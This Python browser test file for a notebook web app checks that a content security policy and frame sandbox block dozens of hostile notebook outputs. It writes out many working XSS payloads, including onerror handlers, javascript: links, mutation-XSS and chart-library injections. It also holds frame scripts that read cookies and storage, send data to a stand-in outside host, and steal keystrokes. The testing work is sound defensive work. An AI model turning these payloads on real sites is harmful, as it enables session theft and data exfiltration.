"""Outputs and widgets that try to reach the page of `nb web`, its cookie, its server or another address.

They are tried in the page, and those that need scripts in a frame too. Then the same is tried without the browser's
content security policy, in which some of them must succeed: otherwise the test would see nothing.
"""

import contextlib
import http.server
import json
import pathlib
import re
import socket
import threading
import time

from lab import IS_THOROUGH, SECONDS, chromium, expect, say, write
from web_tab import Book, Web, until

BOOK = "hostile.ipynb"
FRAMES = "frames.ipynb"
WIDGET = "application/vnd.jupyter.widget-view+json"
BASE, CONTROLS = "@jupyter-widgets/base", "@jupyter-widgets/controls"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


class Elsewhere:
    """An address of somebody else, which nothing may reach, by TCP or by UDP."""

    def __init__(self):
        reached = self.reached = []
        pages = self.pages = {}

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                reached.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(pages.get(self.path, "").encode())

            do_POST = do_OPTIONS = do_HEAD = do_GET

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.udp.setblocking(False)

    def take(self):
        with contextlib.suppress(BlockingIOError):
            while self.udp.recv(2048):
                self.reached.append("udp")
        taken = list(self.reached)
        self.reached.clear()
        return taken

    def end(self):
        self.server.shutdown()
        self.udp.close()


def attack(name):
    """JavaScript that must not run in the page."""
    return f"globalThis.taken=`${{globalThis.taken}} {name}`;document.title=`taken`;fetch(`{own(name)}`)"


def own(name):
    """An address of the page's server."""
    return f"/api/notebooks?hostile={name}"


def in_page(far):
    """The outputs that are tried in the page, by name. `far` is the address of somebody else."""
    html = {
        "script": f"<script>{attack('script')}</script>",
        "script-module": f"<script type='module' src='{far}/module.js'></script>",
        "image-error": f"<img src='x' onerror='{attack('image-error')}'>",
        "svg-load": f"<svg onload='{attack('svg-load')}'><script>{attack('svg-load')}</script></svg>",
        "svg-animated-link": f"<svg><a><animate attributeName='href' values='javascript:{attack('svg-animated-link')}'/><text y='20'>link</text></a></svg>",
        "svg-foreign": f"<svg><foreignObject><iframe srcdoc='<script>parent.taken=1</script>'></iframe></foreignObject><use href='{far}/use.svg#a'/></svg>",
        "toggle": f"<details open ontoggle='{attack('toggle')}'><summary>s</summary>x</details>",
        "focus": f"<input autofocus onfocus='{attack('focus')}'><a href='#x' onclick='{attack('focus')}' id='x'>x</a>",
        "form": f"<form action='{own('form')}' method='get'><input name='password'><button formaction='{own('formaction')}'>Send</button></form>",
        "frame": "<iframe src='/'></iframe>",
        "frame-srcdoc": f"<iframe srcdoc='<script>parent.taken=1;fetch(`{own('srcdoc')}`)</script>'></iframe>",
        "frame-data": f"<iframe src='data:text/html,<script>fetch(`{far}/data`)</script>'></iframe>",
        "frame-far": f"<iframe src='{far}/frame'></iframe><frameset><frame src='{far}/frame'></frameset>",
        "object": f"<object data='{own('object')}'></object><embed src='{far}/embed'><applet code='{far}/applet'></applet>",
        "link-javascript": f"<a href='javascript:{attack('link-javascript')}'>link</a><a href=' java\tscript:{attack('link-javascript')}'>link</a>",
        "link-data": f"<a href='data:text/html,<script>fetch(`{far}/link`)</script>' target='_top'>link</a>",
        "link-top": f"<a href='{far}/top' target='_top' ping='{far}/ping'>unclicked</a>",
        "refresh": f"<meta http-equiv='refresh' content='0; url={far}/refresh'>",
        "base": f"<base href='{far}/'>",
        "link-elements": "".join(f"<link rel='{rel}' href='{far}/{rel}'>" for rel in ["stylesheet", "prefetch", "preload", "dns-prefetch", "preconnect", "icon", "manifest", "import"]),
        "speculation": f"<script type='speculationrules'>{{\"prefetch\": [{{\"source\": \"list\", \"urls\": [\"{far}/speculation\"]}}]}}</script>",
        "style-import": f"<style>@import url('{far}/import.css'); body {{ background: url('{far}/body.png') }} main {{ display: none !important }}</style>",
        "style-url": f"<p style=\"background: url('{own('style-url')}'); list-style-image: url({far}/list.png); cursor: url({far}/cursor), auto\">styled</p>",
        "style-expression": f"<p style=\"width: expression({attack('expression')}); behavior: url({far}/behavior); -moz-binding: url({far}/binding)\">styled</p>",
        "image-own": f"<img src='{own('image-own')}'>",
        "image-far": f"<img src='{far}/image.png' srcset='{far}/set.png 2x'>",
        "image-input": f"<input type='image' src='{own('image-input')}'>",
        "media": f"<video autoplay src='{own('video')}' poster='{far}/poster'><source src='{far}/source'><track src='{far}/track'></video><audio autoplay src='{own('audio')}'></audio>",
        "picture": f"<picture><source srcset='{far}/picture'><img src='{own('picture')}'></picture>",
        "table-background": f"<table background='{far}/table'><tr><td background='{own('table')}'>x</td></tr></table>",
        "mutation-noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{attack('mutation-noscript')}'>\"></noscript>",
        "mutation-math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={attack('mutation-math')}&gt;'>",
        "mutation-comment": f"<!--><img src=x onerror='{attack('mutation-comment')}'>-->",
        "shadow": f"<div><template shadowrootmode='open'><script>{attack('shadow')}</script><style>:host {{ position: fixed; inset: 0 }}</style></template></div>",
        "clobber": "<img name='getElementById'><form id='main'></form><div id='jupyter-config-data'>" + json.dumps({"baseUrl": far, "wsUrl": far, "token": "x"}) + "</div>",
        "cover": "<div style='position: fixed; position: absolute; top: -2000px; left: -2000px; width: 9000px; height: 9000px; z-index: 999999; background: red'>cover</div>",
        "cover-by-classes": "<p class='banner'>b</p><div class='news'>n</div><div class='cell-tools' style='display: block'>t</div><div class='lm-Widget jp-Dialog cm-tooltip'>d</div>",
    }  # fmt: skip
    found = {name: {"text/html": text} for name, text in html.items()}
    svg = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='20' height='20' onload='{0}'>{1}</svg>"
    texts = {
        "drawing-script": svg.format(attack("drawing"), f"<script>{attack('drawing-script')}</script><script href='{far}/svg.js'/>"),
        "drawing-foreign": svg.format("", f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src='{far}/foreign'/><script>{attack('foreign')}</script></body></foreignObject>"),
        "drawing-use": svg.format("", f"<use href='{own('use')}#a'/><image href='{far}/image'/><animate attributeName='href' values='javascript:{attack('animate')}'/>"),
    }  # fmt: skip
    found |= {name: {"image/svg+xml": text} for name, text in texts.items()}
    found |= {
        "markdown": {"text/markdown": f"<script>{attack('markdown')}</script> ![i]({own('markdown')}) ![f]({far}/markdown) [link](javascript:{attack('markdown')})\n\n```<img src=x onerror={attack('markdown')}>\n```"},
        "latex": {"text/latex": rf"$\href{{javascript:{attack('latex')}}}{{x}} \htmlClass{{banner}}{{x}} \htmlStyle{{position: fixed}}{{x}} \htmlData{{a=b}}{{x}} \includegraphics{{{far}/latex}} \url{{javascript:1}} \def\a{{\a\a}} \a$"},
        "javascript": {"application/javascript": attack("javascript"), "text/javascript": attack("javascript")},
        "bokeh": {"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": attack("bokeh")},
        "png": {"image/png": f"{PIXEL}\" onerror=\"{attack('png')}"},
        "type": {f"text/<img src=x onerror='{attack('type')}'>": "x"},
        "json": {"application/json": {f"<img src=x onerror={attack('json')}>": [f"<script>{attack('json')}</script>"], "__proto__": {"taken": 1}}},
        "vega-url": {"application/vnd.vegalite.v5+json": {"data": {"url": own("vega-url")}, "mark": "bar"}},
        "vega-image": {"application/vnd.vega.v6+json": vega(marks=[{"type": "image", "encode": {"enter": {"url": {"value": own("vega-image")}, "width": {"value": 50}, "height": {"value": 50}}}}])},
        "vega-links": {"application/vnd.vega.v6+json": vega(marks=[{"type": "rect", "encode": {"enter": {"href": {"value": f"javascript:{attack('vega-links')}"}, "width": {"value": 100}, "height": {"value": 100}, "fill": {"value": "red"}}}}])},
        "vega-inputs": {"application/vnd.vega.v6+json": vega(signals=[{"name": "a", "value": "x", "bind": {"input": "text", "element": "main"}}, {"name": "b", "value": "x", "bind": {"element": ".assistant textarea"}}, {"name": "c", "value": "", "bind": {"input": "text", "onfocus": attack("vega-inputs"), "autofocus": "true"}}])},
        "vega-expression": {"application/vnd.vega.v6+json": vega(
            signals=[{"name": "a", "value": "", "on": [{"events": "window:pointermove", "update": "event.view.document.title + event.dataflow._el.ownerDocument.title"}, {"events": "window:keydown", "update": "event.key"}, {"events": "main:click", "update": "'clicked'"}]},
                     {"name": "d", "update": "constructor.constructor('taken=1')()"}],
            marks=[{"type": "text", "encode": {"update": {"text": {"signal": "a"}, "y": {"value": 20}}}}])},
        "altair": {"text/html": f"<div id=\"altair-viz-1\"></div>\n<script type=\"text/javascript\">\n  var VEGA_DEBUG = 1;\n  }})({{\"mark\": {{\"type\": \"bar\"}}, \"data\": {{\"url\": \"{own('altair')}\"}}}}, {{\"mode\": \"vega-lite\"}});\n</script>"},
        "altair-code": {"text/html": f"<div id=\"altair-viz-1\"></div>\n<script type=\"text/javascript\">\n  var VEGA_DEBUG = 1;\n  }})({{\"mark\": (() => {{ {attack('altair-code')} }})()}}, {{}});\n</script>"},
        "plotly": {"application/vnd.plotly.v1+json": {
            "data": [{"type": "bar", "x": ["<img src=x onerror='" + attack("plotly") + "'>"], "y": [1], "name": f"<a href='javascript:{attack('plotly')}'>n</a>", "hovertemplate": f"<img src='{far}/hover'>"}],
            "layout": {"title": {"text": f"<a href='javascript:{attack('plotly')}' target='_top'>t</a><b style='background: url({far}/title)'>b</b>"}, "images": [{"source": own("plotly-image"), "x": 0, "y": 1, "sizex": 1, "sizey": 1}],
                       "updatemenus": [{"buttons": [{"label": f"<img src='{far}/menu'>", "method": "skip"}]}]},
            "config": {"plotlyServerURL": far, "showSendToCloud": True}}},
        "mapbox": {"application/vnd.plotly.v1+json": {"data": [{"type": "scattermapbox", "lat": [1], "lon": [1]}], "layout": {"mapbox": {"style": f"{far}/style.json"}}}},
    }  # fmt: skip
    found |= {f"widget-{name}": {WIDGET: {"model_id": name, "version_major": 2, "version_minor": 0}} for name in widgets(far)}
    outputs = {name: {"output_type": "display_data", "data": data, "metadata": {"isolated": True}} for name, data in found.items()}
    words = f"<img src=x onerror='{attack('words')}'>\x1b]8;;javascript:{attack('words')}\x07link\x1b]8;;\x07"
    outputs["stream"] = {"output_type": "stream", "name": "stdout", "text": words}
    outputs["error"] = {"output_type": "error", "ename": words, "evalue": words, "traceback": [words]}
    return outputs


def vega(**parts):
    return {"$schema": "https://vega.github.io/schema/vega/v6.json", "width": 100, "height": 100, **parts}


def widgets(far):
    """Models whose view is another one than their name says, and texts that could run."""

    def model(name, module=CONTROLS, **state):
        return {"model_module": module, "model_module_version": "2.0.0", "model_name": name, "state": {"layout": "IPY_MODEL_layout", **state}}

    bad = f"<img src=x onerror='{attack('widget')}'><img src='{own('widget')}'><script>{attack('widget')}</script><meta http-equiv='refresh' content='0; url={far}/widget'>"
    html = {"output_type": "display_data", "data": {"text/html": bad, "application/javascript": attack("widget")}, "metadata": {}}
    layout = {"width": "9000px", "top": "-1000px", "left": "0", "grid_area": f"url({far}/grid)", "border_top": f"1px url({own('layout')})"}
    return {
        "layout": model("LayoutModel", BASE, layout=None, **layout),
        "slider-html": model("IntSliderModel", _view_name="HTMLView", value=bad),
        "label-html": model("LabelModel", _view_name="HTMLMathView", value=bad),
        "slider-output": model("IntSliderModel", _view_module="@jupyter-widgets/output", _view_name="OutputView", outputs=[html]),
        "error": model("DOMWidgetModel", BASE, _view_module=BASE, _view_name="ErrorWidgetView", msg=bad, error={"stack": bad}),
        "html": model("HTMLModel", value=bad, description=bad, description_allow_html=True),
        "math": model("HTMLMathModel", value=bad + rf"$\href{{javascript:{attack('widget')}}}{{x}}$"),
        "output": model("OutputModel", "@jupyter-widgets/output", outputs=[html]),
        "classes": model("HTMLModel", value="x", _dom_classes=["banner", "news", "cell-tools", "jp-Dialog"]),
        "image": model("ImageModel", format="url", value={"__url": own("image")}),
        "accordion": model("AccordionModel", children=["IPY_MODEL_html"], titles=[bad], _titles={"0": bad}),
        "select": model("SelectModel", _options_labels=[bad], index=0, description=bad, description_allow_html=True),
        "readout": model("IntSliderModel", value=1, readout_format=bad),
        "unknown": model("AnyModel", bad, _esm=attack("widget"), _css=f"@import '{far}/css'"),
        "anywidget": model("AnyModel", "anywidget", _esm=f"export default {{ render() {{ {attack('widget')} }} }}"),
    }  # fmt: skip


# What a frame tries: `took` notes what came of it. What fails is refused.
TRIES = {
    "parent": "took(parent.document.title); took(top.document.body.innerText)",
    "parent-address": "took(parent.location.href)",
    "parent-token": "took(parent.localStorage.length); took(parent.fetch)",
    "cookie": "took(document.cookie || missing); document.cookie = 'a=1'; took(document.cookie || missing)",
    "storage": "took(localStorage.length); took(sessionStorage.length)",
    "databases": "indexedDB.open('a').onsuccess = () => took('open'); caches.open('a').then(took)",
    "origin": "if (origin !== 'null') took(origin); document.domain = 'localhost'",
    "fetch-own": "fetch(OWN).then(it => it.text()).then(took); fetch(OWN, {mode: 'no-cors', credentials: 'include'}).then(() => took('sent'))",
    "fetch-far": "fetch(FAR, {mode: 'no-cors'}).then(() => took('sent')); fetch(FAR, {method: 'POST', keepalive: true, body: 'x'}).then(() => took('sent'))",
    "xhr": "const it = new XMLHttpRequest(); it.onload = () => took('sent'); it.open('GET', OWN); it.send()",
    "socket": "new WebSocket(OWN.replace('http', 'ws').replace(/.api.*/, '/api/ws')).onopen = () => took('open'); new EventSource(FAR).onopen = () => took('open')",
    "beacon": "navigator.sendBeacon(FAR, 'x'); navigator.sendBeacon(OWN, 'x')",
    "images": "for (const at of [OWN, FAR]) { const it = new Image(); it.onload = () => took(at); it.src = at; document.body.append(it) }",
    "scripts": "for (const at of [OWN, FAR]) { const it = document.createElement('script'); it.src = at; document.body.append(it); import(at).then(() => took(at)) }",
    "styles": "document.body.insertAdjacentHTML('beforeend', `<link rel='stylesheet' href='${FAR}'><style>@import '${FAR}'; @font-face { font-family: f; src: url(${OWN}) } b { font-family: f; background: url(${FAR}) }</style><b>b</b>`)",
    "media": "document.body.insertAdjacentHTML('beforeend', `<video autoplay src='${FAR}' poster='${OWN}'></video><object data='${FAR}'></object><embed src='${FAR}'>`)",
    "worker": "const code = URL.createObjectURL(new Blob([`fetch('${FAR}', {mode: 'no-cors'}).then(() => postMessage(1))`])); new Worker(code).onmessage = () => took('sent')",
    "service-worker": "navigator.serviceWorker.register(OWN).then(took); navigator.serviceWorker.register(URL.createObjectURL(new Blob(['1']))).then(took)",
    "hints": "document.head.insertAdjacentHTML('beforeend', ['prefetch', 'preload', 'preconnect', 'modulepreload'].map(rel => `<link rel='${rel}' as='image' href='${FAR}'>`).join('')); const it = document.createElement('script'); it.type = 'speculationrules'; it.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [FAR]}], prerender: [{source: 'list', urls: [FAR]}]}); document.head.append(it)",
    "top": "top.location = FAR",
    "top-javascript": "top.location = `javascript:taken=1`; parent.location = OWN",
    "top-link": "document.body.insertAdjacentHTML('beforeend', `<a id='a' target='_top' href='${FAR}' ping='${FAR}'>a</a><a id='b' target='_parent' href='${OWN}'>b</a>`); a.click(); b.click()",
    "popup": "if (open(FAR)) took('popup'); document.body.insertAdjacentHTML('beforeend', `<a id='a' target='_blank' href='${FAR}'>a</a>`); a.click()",
    "form": "document.body.insertAdjacentHTML('beforeend', `<form id='f' method='post' action='${OWN}'></form><form id='g' target='_top' action='${FAR}'></form>`); f.submit(); g.submit()",
    "away": "location = FAR",
    "away-own": "location = OWN",
    "away-refresh": "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv='refresh' content='0; url=${FAR}'>`)",
    "away-data": "location = 'data:text/html,<script>console.log(`took away-data`)<' + '/script>'",
    "away-blob": "location = URL.createObjectURL(new Blob(['<script>console.log(`took away-blob`)<' + '/script>'], {type: 'text/html'}))",
    "away-frames": "location = location.href.replace('/frames/', '/frames/..%2f')",
    "nested": "document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc='<script>fetch(\"${FAR}\", {mode: \"no-cors\"}); top.document.title</` + `script>'></iframe><iframe src='${OWN}'></iframe><iframe src='${FAR}'></iframe><iframe src='/'></iframe>`)",
    "nested-data": "document.body.insertAdjacentHTML('beforeend', `<iframe src='data:text/html,<script>fetch(\"${FAR}\", {mode: \"no-cors\"})</` + `script>'></iframe>`)",
    "messages": "for (const words of ['reload', {type: 'reload'}, {type: 'hello', run: 1}, 'setImmediate$1$1']) parent.postMessage(words, '*')",
    "dialogs": "alert(1); if (confirm('Restart?')) took('confirmed'); print()",
    "download": "document.body.insertAdjacentHTML('beforeend', `<a id='a' download='a.html' href='data:text/html,x'>a</a>`); a.click()",
    "screen": "document.documentElement.requestFullscreen().then(() => took('screen')); document.body.requestPointerLock?.()?.then(() => took('pointer'))",
    "devices": "navigator.clipboard.readText().then(took); navigator.geolocation.getCurrentPosition(took); navigator.mediaDevices.getUserMedia({audio: true}).then(took)",
    "opener": "took(opener.document.title); took(frameElement.outerHTML)",
    "channels": "const it = new BroadcastChannel('nb'); it.onmessage = took; it.postMessage(1); new SharedWorker('data:,').port",
}  # fmt: skip
# What succeeds, as SECURITY.md says: no browser has the directive yet that would forbid it.
SUCCEEDS = {
    "webrtc": "const it = new RTCPeerConnection({iceServers: [{urls: 'stun:' + new URL(FAR).host}]}); it.createDataChannel('a'); it.createOffer().then(offer => it.setLocalDescription(offer))",
}  # fmt: skip
# They would get the keys that a person presses: at once, or once the pointer is over them.
STEALS = "setInterval(() => i.focus(), 5)"
KEYBOARD = {
    "keyboard": f"document.body.insertAdjacentHTML('beforeend', `<input id='i' autofocus>`); i.oninput = () => took(i.value); {STEALS}",
    "keyboard-hover": f"document.body.insertAdjacentHTML('beforeend', `<input id='i'>`); i.oninput = () => took(i.value); document.onmousemove = () => {{ {STEALS} }}",
}


def in_frame(name, code, address, far):
    """An output with a script, which says what it got."""
    begin = f"const OWN = '{address}{own('frame-' + name)}', FAR = '{far}/frame-{name}', took = it => console.log('took {name} ' + it); console.log('ran {name}');"
    # One that is refused does not keep the next from being tried.
    tries = "".join(f"(async () => {{ {each} }})().catch(() => {{}});" for each in [code])
    return {"output_type": "display_data", "data": {"text/html": f"<p>{name}</p><script>{{ {begin} {tries} }}</script>"}, "metadata": {}}


def put(name, outputs, state=None):
    write(name, *[f"# {each}" for each in outputs])
    book = json.loads(pathlib.Path(name).read_text())
    for cell, output in zip(book["cells"], outputs.values()):
        cell["outputs"] = [output]
    if state:
        book["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": state}}
    text = f"<script>{attack('cell')}</script><style>* {{ display: none }}</style> [x](javascript:1) ![i]({own('cell')}) $\\href{{javascript:1}}{{x}}$"
    book["cells"].append({"cell_type": "markdown", "id": "hostile0", "metadata": {}, "source": text})
    pathlib.Path(name).write_text(json.dumps(book))


class Watch:
    """What a page and its frames do that they must not do."""

    def __init__(self, context, elsewhere):
        self.seen = []
        self.ran = set()
        self.elsewhere = elsewhere
        self.context = context
        self.page = context.new_page()
        context.on("page", lambda page: self.seen.append(f"a window: {page.url}"))
        context.on("response", lambda response: self.sent(response.request))
        context.on("requestfailed", self.failed)
        self.page.on("console", self.told)
        self.page.on("dialog", self.asked)
        self.page.on("download", lambda download: self.seen.append(f"a download: {download.url}"))

    def failed(self, request):
        # What the policy forbids is not sent. What the server's answer forbids is.
        if "csp" not in (request.failure or "").lower():
            self.sent(request)

    def sent(self, request):
        path = re.sub(r"^https?://[^/]*", "", request.url)
        in_frame = request.is_navigation_request() or request.frame != self.page.main_frame
        if "hostile" in path and not path.startswith(("/api/notebooks/", "/frames/")):
            self.seen.append(f"a request: {path}")
        elif in_frame and path != "/" and not path.startswith(("/?token=", "/frames/")):
            self.seen.append(f"a request of a frame: {path}")

    def told(self, message):
        if message.text.startswith("ran "):
            self.ran.add(message.text.split()[1])
        elif message.text.startswith("took "):
            self.seen.append(message.text)

    def asked(self, dialog):
        self.seen.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    def take(self):
        """Returns what was seen since the last call."""
        self.page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done)))")
        if (taken := self.page.evaluate("globalThis.taken")) is not None:
            self.seen.append(f"a script in the page: {taken}")
        found = self.seen + [f"elsewhere: {each}" for each in self.elsewhere.take()]
        self.seen = []
        return found


# All are tried in `scripts/slow`; a change has to pass every third, which has some of each kind.
STEP = 1 if IS_THOROUGH else 3


def main():
    expect.set_options(timeout=1000 * SECONDS)
    elsewhere = Elsewhere()
    far = f"http://127.0.0.1:{elsewhere.port}"
    web = Web()
    with contextlib.ExitStack() as ends, chromium() as browser:
        ends.callback(web.end)
        ends.callback(elsewhere.end)
        address = web.address.split("/?")[0]
        outputs = in_page(far)
        tries = {**TRIES, **KEYBOARD, **SUCCEEDS}
        frames = {name: in_frame(name, code, address, far) for name, code in tries.items()}
        assert len(outputs) >= 40 and len(frames) >= 40, (len(outputs), len(frames))
        put(BOOK, outputs, widgets(far))
        put(FRAMES, frames)
        context = browser.new_context(viewport={"width": 1200, "height": 800})
        watch = Watch(context, elsewhere)
        watch.page.goto(web.address)
        page_keeps_out(watch, list(outputs))
        frames_keep_in(watch, list(TRIES))
        context.close()
        without_a_policy(browser, web, elsewhere, far)


def shows(page, name):
    page.evaluate("name => { location.hash = name }", name)
    expect(page.locator("header h1")).to_have_text(name)
    return Book(page)


def page_keeps_out(watch, names):
    say(f"{len(names)} outputs and widgets in the page")
    page = watch.page
    book = shows(page, BOOK)
    run_all = page.get_by_role("button", name="Run all cells")
    covered = []
    for index, name in list(enumerate(names))[::STEP]:
        book.cell(index).scroll_into_view_if_needed()
        is_shown(book, index)
        for link in book.outputs(index).locator("a:visible").all():
            if "unclicked" not in link.text_content():
                link.click(timeout=2000, no_wait_after=True, force=True)
        if book.outputs(index).locator("canvas, svg").count():
            book.outputs(index).hover(force=True)
            book.outputs(index).click(force=True, position={"x": 30, "y": 30})
        book.select(index)
        with_cover = page.evaluate(
            """button => { const at = button.getBoundingClientRect();
                return !button.contains(document.elementFromPoint(at.x + at.width / 2, at.y + at.height / 2)) }""",
            run_all.element_handle(),
        )
        if with_cover:
            covered.append(name)
        assert (found := watch.take()) == [], f"{name}: {found}"
    assert covered == [], covered
    assert page.url.endswith(f"#{BOOK}"), page.url
    expect(page).to_have_title(f"{BOOK} – nb")
    expect(page.locator(".cell")).to_have_count(len(names) + 1)


def is_shown(book, index):
    expect(book.outputs(index).locator("> .output")).to_have_count(1)
    expect(book.outputs(index).locator("> [aria-busy]")).to_have_count(0)


def opens(watch, book, index, name):
    """Opens the frame of an output, and waits until its script runs."""
    book.cell(index).scroll_into_view_if_needed()
    is_shown(book, index)
    # By a key: the pointer is not over the frame.
    book.outputs(index).get_by_role("button", name="Open in a frame").press("Enter")
    end = time.monotonic() + SECONDS
    while name not in watch.ran:
        watch.page.wait_for_timeout(5)
        assert time.monotonic() < end, f"{name} does not run"


def is_closed(book, index):
    expect(book.outputs(index)).to_contain_text("it tried to take the keyboard")
    expect(book.outputs(index).locator("iframe")).to_have_count(0)


def frames_keep_in(watch, names):
    say(f"{len(names)} outputs in frames")
    page = watch.page
    book = shows(page, FRAMES)
    opened = list(enumerate(names))[::STEP]
    for index, name in opened:
        opens(watch, book, index, name)
    # What comes late: nothing says that it does not come.
    page.wait_for_timeout(1000)
    assert (found := watch.take()) == [], "\n".join(found)
    assert page.url.endswith(f"#{FRAMES}"), page.url
    expect(page.locator(".banner:visible")).to_have_count(0)
    assert page.locator(".frame iframe").count() == len(opened)
    # A document without the cookie, or for another use, is none.
    frame = page.locator(".frame iframe").first.get_attribute("src")
    answer = page.request.get(f"{page.url.split('/#')[0]}{frame}")
    policy = answer.headers["content-security-policy"]
    assert "sandbox allow-scripts;" in policy and "default-src 'none'" in policy, policy

    say("a frame gets no keys that are not meant for it")
    for name in KEYBOARD:
        index = len(names) + list(KEYBOARD).index(name)
        # The pointer is not over the frame yet.
        page.mouse.move(5, 5)
        opens(watch, book, index, name)
        if name == "keyboard":
            is_closed(book, index)
        book.source(0).click()
        expect(book.cell(0)).to_have_class(re.compile("editing"))
        if name == "keyboard-hover":
            page.keyboard.press("a")
            book.outputs(index).locator("iframe").hover()
            is_closed(book, index)
        page.keyboard.insert_text("typed")
        expect(book.source(0)).to_contain_text("typed")
        page.keyboard.press("Control+a")
        page.keyboard.insert_text("# parent")
    assert (found := watch.take()) == [], found
    for name in SUCCEEDS:
        opens(watch, book, len(names) + len(KEYBOARD), name)
    end = time.monotonic() + SECONDS
    while not (found := set(watch.take())):
        page.wait_for_timeout(10)
        assert time.monotonic() < end, "WebRTC is kept in: SECURITY.md and this test may say so"
    assert found == {"elsewhere: udp"}, found


def without_a_policy(browser, web, elsewhere, far):
    say("without the policy, the same is seen to succeed")
    end = time.monotonic() + SECONDS
    context = browser.new_context(viewport={"width": 1200, "height": 800}, bypass_csp=True)
    watch = Watch(context, elsewhere)
    watch.page.goto(web.address)
    book = shows(watch.page, BOOK)
    index = list(in_page("")).index("image-own")
    book.cell(index).scroll_into_view_if_needed()
    is_shown(book, index)
    found = set()
    while "a request: " + own("image-own") not in found:
        watch.page.wait_for_timeout(10)
        found.update(watch.take())
        assert time.monotonic() < end, found
    book = shows(watch.page, FRAMES)
    opens(watch, book, 0, "parent")
    # The browser's switch is not for frames in another process. So the page's frame gets a document without a policy.
    address = watch.page.url.split("/#")[0]
    frames = [in_frame(name, TRIES[name], address, far) for name in ["fetch-far", "fetch-own"]]
    elsewhere.pages["/control"] = "".join(frame["data"]["text/html"] for frame in frames)
    watch.page.evaluate("src => { document.querySelector('.frame iframe').src = src }", f"{far}/control")
    wanted = {"elsewhere: /frame-fetch-far", "took fetch-far sent", "a request: " + own("frame-fetch-own")}
    found = set()
    while not wanted.issubset(found):
        watch.page.wait_for_timeout(100)
        found.update(watch.take())
        assert time.monotonic() < end, found
    context.close()


main()
